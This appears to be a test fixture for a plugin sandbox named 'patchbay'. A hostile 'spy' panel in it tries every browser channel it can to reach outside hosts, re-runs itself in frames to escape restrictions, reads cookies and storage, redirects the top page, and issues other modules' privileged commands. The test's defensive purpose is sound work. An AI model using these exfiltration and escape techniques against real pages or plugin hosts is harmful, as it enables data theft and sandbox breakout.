// In a frame inside of its own, where the app's script did not run before it.
if (!globalThis.patchbay) {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
}

// A third party's panel that tries every way out it can think of, and then says which of them seemed to work.
patchbay.panel(async (element, module) => {
  element.textContent = 'The panel of a spy.'
  const { http, stun, host } = await new Promise((resolve) => module.on('spy:targets', resolve))
  const tried = {}
  const attempt = async (name, work) => {
    try {
      tried[name] = `did: ${String(await work()).slice(0, 60)}`
    } catch (error) {
      tried[name] = `refused: ${error?.name}`
    }
  }
  const soon = (ms = 300) => new Promise((resolve) => setTimeout(resolve, ms))
  const add = (tag, properties) => {
    const made = Object.assign(document.createElement(tag), properties)
    document.body.append(made)
    return made
  }
  const outcome = (made) =>
    new Promise((resolve, reject) => {
      made.onload = () => resolve('loaded')
      made.onerror = () => reject(new DOMException('', 'NotLoaded'))
      setTimeout(() => reject(new DOMException('', 'NothingHappened')), 1000)
    })

  await attempt('fetch', () => fetch(`${http}/fetch`, { mode: 'no-cors' }))
  await attempt('fetch of the host', () => fetch(`${host}/session`, { method: 'POST', credentials: 'include' }))
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${http}/xhr`)
    request.send()
    return outcome(request)
  })
  await attempt('WebSocket', () => outcome(new WebSocket(http.replace('http', 'ws'))))
  await attempt('EventSource', () => outcome(new EventSource(`${http}/events`)))
  await attempt('sendBeacon', () => navigator.sendBeacon(`${http}/beacon`, 'x'))
  await attempt('image', () => outcome(add('img', { src: `${http}/image` })))
  await attempt('style sheet', () => outcome(add('link', { rel: 'stylesheet', href: `${http}/style` })))
  await attempt('script', () => outcome(add('script', { src: `${http}/script` })))
  await attempt('inline script', () => {
    add('script', { textContent: 'globalThis.ran = 1' })
    if (!globalThis.ran) throw new DOMException('', 'NotRun')
  })
  await attempt('import', () => import(`${http}/module`))
  await attempt('eval', () => new Function('return 1')())
  await attempt('worker', () => outcome(new Worker(URL.createObjectURL(new Blob([`fetch('${http}/worker')`])))))
  await attempt('frame', () => outcome(add('iframe', { src: `${http}/frame` })))
  await attempt('prefetch', () => outcome(add('link', { rel: 'prefetch', href: `${http}/prefetch` })))
  await attempt('font in CSS', async () => {
    add('style', {
      textContent: `@font-face { font-family: f; src: url(${http}/font) } * { font-family: f; background: url(${http}/background) }`,
    })
    await soon()
  })
  await attempt('form', async () => {
    add('form', { action: `${http}/form`, method: 'post' }).submit()
    await soon()
  })
  await attempt('popup', () => open(`${http}/popup`) ?? Promise.reject(new DOMException('', 'NoWindow')))
  await attempt('ping', async () => {
    add('a', { href: '#', ping: `${http}/ping` }).click()
    await soon()
  })
  await attempt('WebRTC', () => callOut(globalThis))
  await attempt('WebRTC of a frame', () => callOut(add('iframe', {}).contentWindow))
  // Only its own script runs here; so it is the one to run in a frame, where nobody has taken anything away.
  const again = `<script type="module">${document.scripts[1].textContent}</script>`
  await attempt('itself in a frame', async () => {
    add('iframe', { srcdoc: again })
    await soon(1500)
  })
  await attempt('itself by markup', async () => {
    document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc='${again.replaceAll("'", '&#39;')}'></iframe>`)
    await soon(1500)
  })
  await attempt('itself by attribute', async () => {
    add('iframe', {}).setAttribute('srcdoc', again)
    await soon(1500)
  })
  await attempt('the page around', () => parent.document.title)
  await attempt('the page around, moved', () => {
    top.location.href = `${http}/top`
  })
  await attempt('storage', () => localStorage.length)
  await attempt('cookies', () => document.cookie)
  await attempt('database', () => indexedDB.open('x'))

  function callOut(realm) {
    const connection = new realm.RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] })
    connection.createDataChannel('x')
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer).then(() => soon(1000)))
  }

  // Another module's commands and events are not there.
  let heard = 0
  module.on('system:stats', () => heard++)
  const foreign = await Promise.all(
    ['system:reboot', 'host:disable', 'module:subscribe'].map((command) => module.send(command, { id: 'spy', module: 'host' })),
  )
  tried['commands of others'] = foreign.map(({ code }) => code).join()
  await soon(500)
  tried['events of others'] = String(heard)
  await module.send('spy:report', tried)
  location.href = `${http}/away`
})
